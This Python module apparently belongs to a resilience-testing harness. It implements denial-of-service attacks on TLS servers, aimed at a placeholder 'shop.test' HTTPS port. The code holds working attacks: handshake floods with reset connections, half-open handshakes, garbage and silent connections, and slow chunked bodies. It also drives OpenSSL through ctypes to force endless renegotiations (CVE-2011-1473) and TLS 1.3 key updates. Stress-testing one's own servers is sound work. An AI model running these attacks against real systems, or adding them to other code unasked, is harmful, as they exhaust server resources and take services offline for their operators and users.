"""Attacks on TLS among the attacks (attacks.py), on an https port."""
import contextlib
import ctypes
import ctypes.util
import select
import socket
import ssl
import struct
import time

from attacks import CHUNKED, crowd, read_status

TLS_1_2, SET_MAX_VERSION = 0x0303, 124
UPDATES_MAX = 100_000  # of a connection


def context():
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


def client_hello():
    """The first bytes of a handshake."""
    out = ssl.MemoryBIO()
    half = context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="shop.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return out.read()


def tls_handshakes(site):
    """Full handshakes, each on a connection of its own that is reset then."""
    shared = context()
    shared.options |= ssl.OP_NO_TICKET
    for _ in site.rounds():
        if wire := site.dial():
            with contextlib.suppress(OSError), wire:
                wire.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                with shared.wrap_socket(wire, server_hostname="shop.test"):
                    site.ended["handshake"] += 1


def tls_half_handshakes(site):
    """Handshakes that are begun and not gone on with: the server has done its part of the work."""
    crowd(site, client_hello(), every=0.5)


def tls_silence(site):
    """Connections that say nothing where a handshake is expected."""
    crowd(site, b"", every=0.5)


def tls_garbage(site):
    """What is no TLS."""
    for _ in site.rounds():
        if wire := site.dial():
            with wire:
                site.send(wire, b"GARBAGE " * 2000)
                site.ended["alert" if read_status(wire, 2) == "closed" else "open"] += 1


class Library:
    """OpenSSL itself, for what Python's ssl does not offer: asking for a new handshake."""

    def __init__(self):
        self.ssl = ctypes.CDLL(ctypes.util.find_library("ssl"))
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.ssl, name).restype = ctypes.c_void_p
        self.context = self.call("SSL_CTX_new", self.ssl.TLS_client_method())

    def call(self, name, *arguments):
        given = [ctypes.c_void_p(a) if isinstance(a, int) and a > 2**31 else a for a in arguments]
        return getattr(self.ssl, name)(*given)

    @contextlib.contextmanager
    def connected(self, wire, most=0):
        """A handle after the handshake; None when there was none. `most`: a version."""
        handle = self.call("SSL_new", self.context)
        try:
            self.call("SSL_ctrl", handle, SET_MAX_VERSION, ctypes.c_long(most), None)
            self.call("SSL_set_fd", handle, wire.fileno())
            yield handle if self.call("SSL_connect", handle) == 1 else None
        finally:
            self.call("SSL_free", handle)


def on_connections(site, most, each):
    """`each(library, handle, wire)` says how a connection ended."""
    library = Library()
    for _ in site.rounds():
        if wire := site.dial():
            wire.settimeout(None)  # OpenSSL has the descriptor
            limit = struct.pack("ll", 5, 0)
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, limit)
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, limit)
            with wire, library.connected(wire, most) as handle:
                site.ended[each(library, handle, wire) if handle else "no handshake"] += 1


def tls_renegotiations(site):
    """New handshakes on one connection of TLS 1.2 (CVE-2011-1473)."""

    def each(library, handle, _):
        for _ in range(UPDATES_MAX):
            library.call("SSL_renegotiate", handle)
            if site.over():
                return "open"
            if library.call("SSL_do_handshake", handle) != 1:
                return "refused"
            site.bytes += 1
        return "open"

    on_connections(site, TLS_1_2, each)


def tls_key_updates(site):
    """New keys again and again on one connection of TLS 1.3, each to be answered; nothing is
    read."""

    def each(library, handle, wire):
        wire.setblocking(False)
        for _ in range(UPDATES_MAX):
            if site.over() or not select.select([], [wire], [], 0.5)[1]:
                return "open"  # or it takes no more
            library.call("SSL_key_update", handle, 1)
            done = library.call("SSL_do_handshake", handle)
            if done != 1 and library.call("SSL_get_error", handle, done) not in (2, 3):
                return "closed"
            site.bytes += 1
        return "open"

    on_connections(site, 0, each)


def tls_slow_bodies(site):
    """Bodies that are promised and never come, each behind a handshake."""
    shared, wires = context(), []
    for _ in site.rounds():
        if wire := site.dial():
            with contextlib.suppress(OSError):
                wires.append(shared.wrap_socket(wire, server_hostname="shop.test"))
                wires[-1].sendall(CHUNKED + b"5\r\n")
    for wire in wires:
        with wire:
            site.ended[read_status(wire, max(0.1, site.end - time.monotonic()))] += 1


ATTACKS = (tls_handshakes, tls_half_handshakes, tls_silence, tls_garbage, tls_renegotiations,
           tls_key_updates, tls_slow_bodies)
